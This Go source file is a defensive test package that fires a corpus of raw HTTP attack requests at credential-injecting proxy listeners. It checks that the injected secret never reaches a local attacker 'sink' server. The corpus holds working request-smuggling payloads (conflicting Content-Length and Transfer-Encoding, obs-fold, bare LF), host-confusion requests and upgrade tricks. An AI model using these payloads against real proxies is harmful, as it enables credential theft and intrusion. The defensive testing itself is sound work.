// Package bindingtest is the destination-binding attack corpus shared by
// every HTTP-shaped injection listener (inject/httpproxy, and the SigV4
// and AWS-endpoint listeners to come): raw requests that try to make a
// listener send its credential somewhere other than its configured
// upstream, or let the caller's own Authorization through.
//
// A listener's test starts a Sink (the attacker's server), an Upstream
// recorder wrapped around its upstream's handler, the listener itself
// configured with that upstream, and calls Run:
//
//	sink := bindingtest.NewSink(t)
//	up := bindingtest.NewUpstream(sink)
//	srv := httptest.NewTLSServer(up.Wrap(nil))
//	// … start the listener with upstream srv.URL …
//	bindingtest.Run(t, bindingtest.Target{
//		Dial: dialListener, Secret: canary, Header: "Authorization", Value: "Bearer " + canary,
//		UpstreamHost: srv.Listener.Addr().String(), Upstream: up, Sink: sink,
//	})
//
// Every attack is written as raw bytes on a fresh connection. Whatever the
// listener answers, after each attack: the sink has had no connection and
// holds no trace of the secret; the reply holds no trace of it; and every
// request the upstream saw was addressed to the upstream's host, carried
// the credential header exactly once (with Value, when set), and carried
// nothing the attacker sent as credentials (no attacker Authorization,
// Proxy-Authorization or X-Amz-* value). Attacks have an expected outcome
// as well: forwarded (a 2xx from the upstream), refused (no request
// reaches the upstream and the reply, if any, is an error), either of the
// two, or a redirect returned to the client unfollowed.
package bindingtest

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
)

// Paths the Upstream serves for the corpus.
const (
	// PathOK answers 200.
	PathOK = "/bindingtest/ok"
	// PathRedirect answers 302 to the sink.
	PathRedirect = "/bindingtest/redirect"
)

// attacker marks every credential-like value the attacks send, so that the
// upstream can be checked for any of them.
const attacker = "attacker-c7d1"

// timeout bounds each attack's exchange.
const timeout = 15 * time.Second

// Sink is the attacker's server: a TCP listener on loopback that records
// every connection and every byte it receives, and answers 200 to
// whatever arrives.
type Sink struct {
	ln    net.Listener
	wg    sync.WaitGroup
	mu    sync.Mutex
	conns int
	data  bytes.Buffer
}

// NewSink starts a Sink, stopped by t's cleanup.
func NewSink(t testing.TB) *Sink {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("bindingtest: sink: %v", err)
	}
	s := &Sink{ln: ln}
	s.wg.Add(1)
	go s.serve()
	t.Cleanup(func() { ln.Close(); s.wg.Wait() })
	return s
}

// Addr is the sink's host:port.
func (s *Sink) Addr() string { return s.ln.Addr().String() }

func (s *Sink) serve() {
	defer s.wg.Done()
	for {
		c, err := s.ln.Accept()
		if err != nil {
			return
		}
		s.mu.Lock()
		s.conns++
		s.mu.Unlock()
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(timeout))
			buf := make([]byte, 32<<10)
			for {
				n, err := c.Read(buf)
				s.mu.Lock()
				s.data.Write(buf[:n])
				s.mu.Unlock()
				if err != nil || bytes.Contains(buf[:n], []byte("\r\n\r\n")) {
					break
				}
			}
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nsink")
		}()
	}
}

// Connections is how many connections the sink has accepted.
func (s *Sink) Connections() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.conns
}

// Received returns a copy of every byte the sink has received.
func (s *Sink) Received() []byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return bytes.Clone(s.data.Bytes())
}

// Seen is a request as the upstream received it.
type Seen struct {
	Method, Host, RequestURI, Path string
	Header                         http.Header
}

// Upstream records what the listener's upstream receives and serves the
// corpus's paths (PathOK, PathRedirect).
type Upstream struct {
	sink *Sink
	mu   sync.Mutex
	reqs []Seen
}

// NewUpstream returns an Upstream whose PathRedirect points at sink.
func NewUpstream(sink *Sink) *Upstream { return &Upstream{sink: sink} }

// Wrap returns the upstream's handler: it records every request, answers
// the corpus's paths, and passes the others to next (nil: 200 for all).
func (u *Upstream) Wrap(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.reqs = append(u.reqs, Seen{Method: r.Method, Host: r.Host, RequestURI: r.RequestURI, Path: r.URL.Path, Header: r.Header.Clone()})
		u.mu.Unlock()
		switch {
		case r.URL.Path == PathRedirect:
			_, _ = io.Copy(io.Discard, r.Body)
			w.Header().Set("Location", "http://"+u.sink.Addr()+"/stolen")
			w.WriteHeader(http.StatusFound)
		case strings.HasPrefix(r.URL.Path, "/bindingtest/"), next == nil:
			_, _ = io.Copy(io.Discard, r.Body)
			_, _ = io.WriteString(w, "ok")
		default:
			next.ServeHTTP(w, r)
		}
	})
}

// Requests returns the requests recorded since the last Reset.
func (u *Upstream) Requests() []Seen {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]Seen(nil), u.reqs...)
}

// Reset forgets the recorded requests.
func (u *Upstream) Reset() {
	u.mu.Lock()
	defer u.mu.Unlock()
	u.reqs = nil
}

// Target is a listener under attack.
type Target struct {
	// Dial opens a new connection to the listener (TCP or Unix). Required.
	Dial func(ctx context.Context) (net.Conn, error)
	// Secret is the credential's secret value: it must never reach the
	// sink or a reply. Required.
	Secret string
	// Header is the header the listener injects the credential in.
	// Required.
	Header string
	// Value is the exact value the upstream must see in Header; empty for
	// listeners whose header is computed per request (SigV4), which only
	// have to send it once.
	Value string
	// UpstreamHost is the Host the upstream must be addressed with (the
	// configured upstream's host[:port]). Required.
	UpstreamHost string
	// Upstream records the configured upstream's requests; its handler
	// must be Upstream.Wrap. Required.
	Upstream *Upstream
	// Sink is the attacker's server. Required.
	Sink *Sink
}

// outcome is what an attack must end in, beyond the checks common to all.
type outcome int

const (
	forwarded  outcome = iota + 1 // a 2xx from the upstream, which saw the request
	refused                       // nothing reached the upstream; the reply, if any, is >= 400
	either                        // forwarded or refused
	redirected                    // the upstream's 3xx to the sink, unfollowed
)

func (o outcome) String() string {
	return [...]string{"", "forwarded", "refused", "forwarded or refused", "redirected"}[o]
}

// attack is one raw request.
type attack struct {
	name string
	raw  func(sink string) string
	want outcome
}

// creds are the credential-like headers every attack sends.
const creds = "Authorization: Bearer " + attacker + "\r\nProxy-Authorization: Basic " + attacker + "\r\nX-Amz-Security-Token: " + attacker + "\r\n"

// corpus is the attack list.
func corpus(header string) []attack {
	plain := func(line, headers string) func(string) string {
		return func(sink string) string {
			return strings.ReplaceAll(line+"\r\n"+headers+creds+"\r\n", "SINK", sink)
		}
	}
	body := func(line, headers, body string) func(string) string {
		return func(sink string) string {
			return strings.ReplaceAll(line+"\r\n"+headers+creds+"\r\n"+body, "SINK", sink)
		}
	}
	smuggled := "GET http://SINK/smuggled HTTP/1.1\r\nHost: SINK\r\nAuthorization: Bearer " + attacker + "\r\n\r\n"
	return []attack{
		{"baseline", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\n"), forwarded},
		{"forged Host header", plain("GET "+PathOK+" HTTP/1.1", "Host: SINK\r\n"), forwarded},
		{"Host with user information", plain("GET "+PathOK+" HTTP/1.1", "Host: user@SINK\r\n"), either},
		{"forwarding headers", plain("GET "+PathOK+" HTTP/1.1", "Host: SINK\r\nX-Forwarded-Host: SINK\r\nForwarded: host=SINK;proto=http\r\nX-Forwarded-Proto: http\r\n"), forwarded},
		{"absolute-form http", plain("GET http://SINK"+PathOK+" HTTP/1.1", "Host: SINK\r\n"), either},
		{"absolute-form https", plain("GET https://SINK"+PathOK+" HTTP/1.1", "Host: SINK\r\n"), either},
		{"absolute-form without path", plain("GET http://SINK HTTP/1.1", "Host: SINK\r\n"), either},
		{"user@host authority", plain("GET http://user:pass@SINK"+PathOK+" HTTP/1.1", "Host: SINK\r\n"), either},
		{"upstream@sink authority", plain("GET http://localhost@SINK"+PathOK+" HTTP/1.1", "Host: localhost@SINK\r\n"), either},
		{"scheme-relative path", plain("GET //SINK/x HTTP/1.1", "Host: localhost\r\n"), either},
		{"at-sign target", plain("GET @SINK/x HTTP/1.1", "Host: localhost\r\n"), refused},
		{"path with at-sign", plain("GET /@SINK/x HTTP/1.1", "Host: localhost\r\n"), either},
		{"redirect to the sink", plain("GET "+PathRedirect+" HTTP/1.1", "Host: localhost\r\n"), redirected},
		{"POST redirect to the sink", body("POST "+PathRedirect+" HTTP/1.1", "Host: localhost\r\nContent-Length: 4\r\n", "data"), redirected},
		{"Connection names Authorization", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nConnection: Authorization\r\n"), forwarded},
		{"Connection names the credential header", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nConnection: keep-alive, "+header+", X-Amz-Date\r\n"), forwarded},
		{"client copy of the credential header", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\n"+header+": "+attacker+"\r\n"), forwarded},
		{"lowercase credential headers", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nauthorization: Bearer "+attacker+"\r\nx-amz-date: "+attacker+"\r\n"), forwarded},
		{"h2c upgrade", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), refused},
		{"HTTP2-Settings alone", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), refused},
		{"websocket upgrade", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"), refused},
		{"h2 prior knowledge", func(string) string { return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" }, refused},
		{"CONNECT to the sink", plain("CONNECT SINK HTTP/1.1", "Host: SINK\r\n"), refused},
		{"OPTIONS asterisk", plain("OPTIONS * HTTP/1.1", "Host: localhost\r\n"), refused},
		{"Content-Length and Transfer-Encoding", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+smuggled), refused},
		{"Transfer-Encoding and Content-Length", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 200\r\n", "0\r\n\r\n"+smuggled), refused},
		{"duplicate Content-Length", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 4\r\nContent-Length: 4\r\n", "data"), refused},
		{"conflicting Content-Length", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 4\r\nContent-Length: 90\r\n", "data"+smuggled), refused},
		{"Content-Length list", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 4, 4\r\n", "data"), refused},
		{"signed Content-Length", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: +4\r\n", "data"), refused},
		{"Transfer-Encoding twice", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"), refused},
		{"Transfer-Encoding list", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nTransfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"), refused},
		{"Transfer-Encoding unknown", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nTransfer-Encoding: xchunked\r\n", "0\r\n\r\n"), refused},
		{"Transfer-Encoding with space before colon", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nTransfer-Encoding : chunked\r\n", "0\r\n\r\n"), refused},
		{"Transfer-Encoding on HTTP/1.0", body("POST "+PathOK+" HTTP/1.0", "Host: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n"+smuggled), refused},
		{"obs-fold", plain("GET "+PathOK+" HTTP/1.1", "Host: localhost\r\nX-Note: a\r\n b\r\n"), refused},
		{"obs-fold hiding Transfer-Encoding", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 5\r\nX-Note: a\r\n\tTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+smuggled), refused},
		{"bare LF line ends", func(sink string) string {
			return strings.ReplaceAll("GET "+PathOK+" HTTP/1.1\nHost: SINK\nAuthorization: Bearer "+attacker+"\n\n", "SINK", sink)
		}, refused},
		{"smuggled request after a good one", body("POST "+PathOK+" HTTP/1.1", "Host: localhost\r\nContent-Length: 4\r\n", "data"+strings.ReplaceAll(smuggled, "\r\n\r\n", "\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx")), either},
	}
}

// Run runs every attack against target, each as a subtest.
func Run(t *testing.T, target Target) {
	t.Helper()
	switch {
	case target.Dial == nil, target.Secret == "", target.Header == "", target.UpstreamHost == "", target.Upstream == nil, target.Sink == nil:
		t.Fatal("bindingtest: Target needs Dial, Secret, Header, UpstreamHost, Upstream and Sink")
	}
	for _, a := range corpus(target.Header) {
		t.Run(a.name, func(t *testing.T) {
			for _, p := range target.attack(a) {
				t.Error(p)
			}
		})
	}
}

// attack runs one attack and returns what went wrong.
func (target Target) attack(a attack) []string {
	target.Upstream.Reset()
	conns, received := target.Sink.Connections(), len(target.Sink.Received())
	resp, reply, err := exchange(target, a.raw(target.Sink.Addr()))
	if err != nil {
		return []string{fmt.Sprintf("exchange: %v", err)}
	}
	return target.check(a, resp, reply, conns, received)
}

// exchange writes raw on a new connection and reads the first reply, then
// everything else until the listener closes or goes quiet. resp is nil
// when no reply could be read.
func exchange(target Target, raw string) (*http.Response, []byte, error) {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	c, err := target.Dial(ctx)
	if err != nil {
		return nil, nil, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(timeout))
	if _, err := io.WriteString(c, raw); err != nil {
		return nil, nil, err
	}
	var all bytes.Buffer
	br := bufio.NewReader(io.TeeReader(c, &all))
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return nil, all.Bytes(), nil
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	// Anything more (a reply to a smuggled request) is read until the
	// listener closes: half-closed now, it closes once it has answered
	// what it already read.
	if cw, ok := c.(interface{ CloseWrite() error }); ok {
		_ = cw.CloseWrite()
	}
	_, _ = io.Copy(io.Discard, br)
	return resp, all.Bytes(), nil
}

// check checks the common rules and the attack's outcome, given the
// sink's connections and bytes before the attack.
func (target Target) check(a attack, resp *http.Response, reply []byte, conns, received int) []string {
	var problems []string
	bad := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	if n := target.Sink.Connections() - conns; n > 0 {
		bad("the sink received %d connection(s)", n)
	}
	if got := target.Sink.Received(); bytes.Contains(got[min(received, len(got)):], []byte(target.Secret)) {
		bad("the sink received the secret")
	}
	if bytes.Contains(reply, []byte(target.Secret)) {
		bad("the reply holds the secret")
	}
	seen := target.Upstream.Requests()
	for i, s := range seen {
		if err := target.checkSeen(s); err != nil {
			bad("upstream request %d (%s %s): %v", i, s.Method, s.RequestURI, err)
		}
	}
	status := 0
	if resp != nil {
		status = resp.StatusCode
	}
	switch a.want {
	case forwarded:
		if status < 200 || status > 299 || len(seen) != 1 {
			bad("want %s: status %d, %d upstream request(s); reply %q", a.want, status, len(seen), clip(reply))
		}
	case refused:
		if len(seen) != 0 || (status != 0 && status < 400) {
			bad("want %s: status %d, %d upstream request(s); reply %q", a.want, status, len(seen), clip(reply))
		}
	case either:
		ok := (status >= 200 && status <= 299 && len(seen) >= 1) || (len(seen) == 0 && (status == 0 || status >= 400))
		if !ok {
			bad("want %s: status %d, %d upstream request(s); reply %q", a.want, status, len(seen), clip(reply))
		}
	case redirected:
		loc := ""
		if resp != nil {
			loc = resp.Header.Get("Location")
		}
		if status != http.StatusFound || !strings.Contains(loc, target.Sink.Addr()) || len(seen) != 1 {
			bad("want %s: status %d, Location %q, %d upstream request(s)", a.want, status, loc, len(seen))
		}
	}
	return problems
}

// checkSeen checks one request the upstream received.
func (target Target) checkSeen(s Seen) error {
	var errs []error
	if s.Host != target.UpstreamHost {
		errs = append(errs, fmt.Errorf("addressed to host %q, want %q", s.Host, target.UpstreamHost))
	}
	got := s.Header.Values(target.Header)
	switch {
	case len(got) != 1:
		errs = append(errs, fmt.Errorf("header %s sent %d times, want once", target.Header, len(got)))
	case target.Value != "" && got[0] != target.Value:
		errs = append(errs, fmt.Errorf("header %s is not the injected value", target.Header))
	}
	if !strings.EqualFold(target.Header, "Authorization") && len(s.Header.Values("Authorization")) > 0 {
		errs = append(errs, errors.New("a client Authorization header reached the upstream"))
	}
	for k, vs := range s.Header {
		for _, v := range vs {
			if strings.Contains(v, attacker) {
				errs = append(errs, fmt.Errorf("the caller's %s value reached the upstream", k))
			}
		}
		if strings.HasPrefix(k, "Proxy-") {
			errs = append(errs, fmt.Errorf("%s reached the upstream", k))
		}
	}
	if strings.Contains(s.RequestURI, attacker) {
		errs = append(errs, errors.New("the caller's credentials reached the upstream in the target"))
	}
	return errors.Join(errs...)
}

// clip shortens a reply for a failure message.
func clip(b []byte) string {
	if len(b) > 300 {
		return string(b[:300]) + "…"
	}
	return string(b)
}
